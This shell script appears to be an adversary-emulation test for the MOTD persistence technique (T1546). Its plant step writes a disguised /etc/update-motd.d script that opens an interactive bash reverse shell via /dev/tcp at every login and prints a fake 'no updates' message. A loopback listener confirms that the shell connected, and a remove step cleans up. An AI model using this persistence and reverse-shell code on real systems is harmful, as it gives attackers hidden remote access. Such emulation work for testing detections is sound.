#!/bin/sh
# T1546 (loud): The greeting's scripts open a shell at each login
M=/var/tmp/luytre-foothold N=39-motd
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
listen() { # a listener on loopback that notes who connects
  setsid python3 - "$1" "$M/$N" <<'END' >/dev/null 2>&1 &
import socket, sys
s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(); s.settimeout(75)
c, _ = s.accept(); open(sys.argv[2], "w").write("connected"); c.sendall(b"exit\n")
END
  sleep 0.4; }
plant() {
  x /etc/update-motd.d/98-updates <<'E'
#!/bin/bash
(setsid bash -c 'bash -i >& /dev/tcp/127.0.0.1/47039 0>&1' >/dev/null 2>&1 &)
echo "0 updates can be applied immediately."
E
}
prove() {
  rm -f "$M/$N"
  listen 47039
  run-parts --lsbsysinit /etc/update-motd.d >/dev/null
  seen
}
remove() {
  rm -f /etc/update-motd.d/98-updates
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
